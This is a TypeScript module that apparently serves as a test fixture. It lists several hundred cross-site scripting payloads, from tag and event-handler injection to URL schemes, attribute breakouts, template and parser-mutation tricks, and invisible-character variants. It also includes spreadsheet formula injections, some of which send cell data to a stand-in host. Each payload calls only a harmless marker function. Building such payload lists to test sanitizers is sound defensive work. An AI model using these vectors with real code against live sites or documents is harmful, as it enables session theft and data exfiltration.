/** `RUN` reports that a payload ran: `R_U_N` without brackets, `E_RUN` with its first character as an entity. */
const TAGS = String.raw`
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script/x>
<script
>RUN</script
>
<scr<script>ipt>RUN</scr</script>ipt>
<script type="module">RUN</script>
<script type=text/javascript defer>RUN</script>
<script nonce="">RUN</script>
<script src=data:text/javascript,RUN></script>
<script src="data:text/javascript;base64,B64"></script>
<script>/*<!--*/RUN/*-->*/</script>
<!--><script>RUN</script>-->
<![CDATA[<script>RUN</script>]]>
<%00script>RUN</script>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;script&gt;top.RUN&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<frameset onload=RUN><frame src=about:blank></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,B64"></object>
<embed src="javascript:RUN">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<applet code="javascript:RUN">
<base href="javascript:RUN//">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">
<link rel=stylesheet href="javascript:RUN">
<link rel=preload as=script href="data:text/javascript,RUN" onload=RUN>
<form action="javascript:RUN"><button>Send</button></form>
<form><button formaction="javascript:RUN">Send</button></form>
<input type=image src=x formaction="javascript:RUN" onerror=RUN>
<isindex type=image src=1 onerror=RUN>
<portal src="javascript:RUN"></portal>
<template shadowrootmode=open><script>RUN</script></template>
<dialog open oncancel=RUN onclose=RUN>x</dialog>
<search onclick=RUN>x</search>
`;

const HANDLERS = String.raw`
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//
<IMG SRC=x OnErRoR=RUN>
<img src onerror=R_U_N>
<img src=x onerror=E_RUN>
<img srcset=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN></picture>
<image src=x onerror=RUN>
<body onload=RUN>
<body onpageshow=RUN onhashchange=RUN onresize=RUN>
<div onmouseover=RUN onpointerenter=RUN>over</div>
<div style=position:fixed;inset:0 onpointermove=RUN></div>
<div tabindex=0 autofocus onfocus=RUN>x</div>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN></textarea>
<button popovertarget=p onclick=RUN>x</button><div popover id=p onbeforetoggle=RUN>x</div>
<details open ontoggle=RUN><summary>x</summary></details>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster=javascript:RUN//></video>
<audio src=x onerror=RUN></audio>
<audio autoplay onloadstart=RUN src=x></audio>
<track onerror=RUN src=x>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<a onclick=RUN href=#>x</a>
<a oncontextmenu=RUN oncopy=RUN>x</a>
<p onanimationstart=RUN style=animation:spin>x</p>
<p ontransitionend=RUN style=transition:1s>x</p>
<p onscroll=RUN onwheel=RUN>x</p>
<p contenteditable onbeforeinput=RUN oninput=RUN>x</p>
<p ondragstart=RUN draggable=true>x</p>
<object onerror=RUN data=x></object>
<style onload=RUN></style>
<link onerror=RUN rel=stylesheet href=x>
<iframe onload=RUN></iframe>
`;

const SVG_AND_MATHML = String.raw`
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script>E_RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:RUN /></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"/></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><image href=x onerror=RUN /></svg>
<svg><style>@import 'javascript:RUN';</style></svg>
<svg><title><style><img src=x onerror=RUN></style></title></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg><handler type="text/javascript" ev:event="load">RUN</handler></svg>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">x</maction></math>
<math><mtext><script>RUN</script></mtext></math>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
`;

const ADDRESSES = String.raw`
javascript:RUN
JaVaScRiPt:RUN
javascript://comment%0aRUN
javascript:/*--></title></style></textarea></script><svg onload=RUN>*/
javascript&colon;RUN
javascript&#58;RUN
java&Tab;script:RUN
java&NewLine;script:RUN
&#106;avascript:RUN
%6Aavascript:RUN
javascript%3ARUN
view-source:javascript:RUN
jar:javascript:RUN!/
feed:javascript:RUN
livescript:RUN
vbscript:RUN
VBScript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,B64
DATA:text/html;charset=utf-7,+ADw-script+AD4-RUN+ADw-/script+AD4-
data:text/javascript,RUN
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>
blob:javascript:RUN
filesystem:javascript:RUN
<a href="javascript:RUN">x</a>
<a href=" javascript:RUN">x</a>
<a href="javascript&colon;RUN" target=_self>x</a>
<area href="javascript:RUN" shape=default>
https://example.test/"onmouseover="RUN
https://example.test/'><img src=x onerror=RUN>
https://example.test/?q=<script>RUN</script>#<img/src/onerror=RUN>
http://javascript:RUN@example.test/
//example.test/%22onfocus=RUN%20autofocus=%22
mailto:x@example.test?body=<script>RUN</script>
`;

const BREAKOUTS = String.raw`
"><script>RUN</script>
'><script>RUN</script>
"><img src=x onerror=RUN>
"/><svg/onload=RUN>
" onfocus=RUN autofocus x="
' onfocus=RUN autofocus x='
" onmouseover="RUN
x onmouseover=RUN
"style="x:expression(RUN)
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</noscript><script>RUN</script>
</script><script>RUN</script>
</template><img src=x onerror=RUN>
</option></select><img src=x onerror=RUN>
</button><img src=x onerror=RUN>
</table><img src=x onerror=RUN>
--><script>RUN</script>
]]><script>RUN</script>
*/RUN/*
';RUN;'
";RUN;"
\';RUN;//
\";RUN;//
\u0022;RUN;//
\x27-RUN-\x27
'-RUN-'
"-RUN-"
'+RUN+'
});RUN;({
"}];RUN;[{"
"},"__proto__":{"toString":"RUN"},"x":{"
$\{RUN}
\\$\{RUN}
</script><!--<script>RUN
//%0d%0aRUN
//%E2%80%A8RUN
`;

const STYLES = String.raw`
<style>@import"javascript:RUN";</style>
<style>body{background:url("javascript:RUN")}</style>
<style>*{x:expression(RUN)}</style>
<div style="background:url(javascript:RUN)">x</div>
<div style="width:expression(RUN)">x</div>
<div style="behavior:url(#default#time2)" onbegin=RUN>x</div>
<div style="-moz-binding:url(data:text/xml,RUN)">x</div>
}</style><script>RUN</script><style>{
;background:url(javascript:RUN);
red;}</style><img src=x onerror=RUN>
`;

const TEMPLATES = String.raw`
{{RUN}}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{{RUN}}}
[[RUN]]
<%= RUN %>
<% RUN %>
#{RUN}
@{RUN}
*{RUN}
{% RUN %}
{!RUN}
$t(RUN)
<0 onclick="RUN">x</0>
<1><img src=x onerror=RUN></1>
{{x, RUN}}
{0, plural, other {RUN}}
%s%n%RUN
<div v-html="'<img src=x onerror=RUN>'"></div>
<div ng-app ng-csp ng-init="RUN">x</div>
<div x-data x-init="RUN">x</div>
<div hx-on:load="RUN">x</div>
`;

const MUTATIONS = String.raw`
<noscript><p title="</noscript><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<a id=__pitdesk><a id=__pitdesk name=ran href=javascript:RUN>
<img name=getElementById><img name=body onerror=RUN src=x>
<p id="&lt;img src=x onerror=RUN&gt;">x</p>
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN%253C/script%253E
\u003cscript\u003eRUN\u003c/script\u003e
\x3cscript\x3eRUN\x3c/script\x3e
+ADw-script+AD4-RUN+ADw-/script+AD4-
`;

const MARKDOWN = String.raw`
[x](javascript:RUN)
[x](javascript&colon;RUN "x")
![x](x"onerror="RUN)
![x](data:text/html,<script>RUN</script>)
<javascript:RUN>
[x]: javascript:RUN
**<img src=x onerror=RUN>**
~~~html <script>RUN</script>
http://example.test/<img src=x onerror=RUN>
https://example.test/?"><svg/onload=RUN>
www.example.test"onmouseover="RUN
x@example.test"><script>RUN</script>
#hash<img src=x onerror=RUN>
@someone"onclick="RUN
`;

const FORMULAS = String.raw`
=HYPERLINK("javascript:RUN","x")
=cmd|'/c RUN'!A1
+IMPORTXML(CONCAT("//example.test/",A1),"RUN")
-2+3+cmd|'/c RUN'!A1
@SUM(1+1)*WEBSERVICE("//example.test/RUN")
＝HYPERLINK("javascript:RUN")
;=1+1;RUN
","=1+1","RUN
`;

/** Invisible characters, written by their numbers. */
const UNSEEN = [
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java\r\nscript:RUN',
  '\u0001javascript:RUN',
  '\u00A0javascript:RUN',
  '\u2028javascript:RUN',
  'javascript\u200B:RUN',
  '\uFEFFjavascript:RUN',
  '<img src=x\u000Conerror=RUN>',
  '<img\u000Bsrc=x onerror=RUN>',
  '<scr\u00ADipt>RUN</scr\u00ADipt>',
  '\u202E>tpircs/<NUR>tpircs<\u202C<script>RUN</script>',
  '\u2066<img src=x onerror=RUN>\u2069',
  '＜script＞RUN＜/script＞',
  '<ſcript>RUN</ſcript>',
  '‹img src=x onerror=RUN›',
  '\u02BA onfocus=RUN autofocus x=\u02BA',
  '\u{E003C}script\u{E003E}RUN',
  'x\u2028RUN\u2029',
  '\u001B]8;;javascript:RUN\u0007x\u001B]8;;\u0007',
  '\u001B[31m<script>RUN</script>',
  `Z${'\u0300\u0301\u0323\u0334\u0338'.repeat(40)}<script>RUN</script>`,
  `${'W'.repeat(600)}<script>RUN</script>`,
  `<${'x'.repeat(300)} onclick=RUN>`,
  `${'<b>'.repeat(120)}<img src=x onerror=RUN>`,
  '\uD800<script>RUN</script>',
  '\0<script>RUN</script>',
  '<\0script>RUN</script>',
  '<img src=x onerror=\0RUN>',
];

/** Returns the name that the payload with that number calls when it runs. */
const CALL = (number: number) => `__pitdeskRan(${number})`;

function withCall(payload: string, number: number): string {
  const call = CALL(number);
  return payload
    .replaceAll('R_U_N', `__pitdeskRan\`${number}\``)
    .replaceAll('E_RUN', `&#x5f;&#95${call.slice(1).replace('_', ';')}`)
    .replaceAll('B64', btoa(`<script>parent.${call}</script>`))
    .replaceAll('RUN', call)
    .replaceAll('\\{', '{');
}

/** Splits a family into payloads: one starts at each line that is not the second line of another payload. */
const linesOf = (family: string): string[] => family.trim().split(/\n(?!>)/);

/**
 * Texts that run `__pitdeskRan(n)` (n is the index in this list) when a page treats them as anything but text: in its
 * HTML, an attribute, an address, a script, a style, a template or a spreadsheet.
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...[
    TAGS,
    HANDLERS,
    SVG_AND_MATHML,
    ADDRESSES,
    BREAKOUTS,
    STYLES,
    TEMPLATES,
    MUTATIONS,
    MARKDOWN,
    FORMULAS,
  ].flatMap(linesOf),
  ...UNSEEN,
].map(withCall);
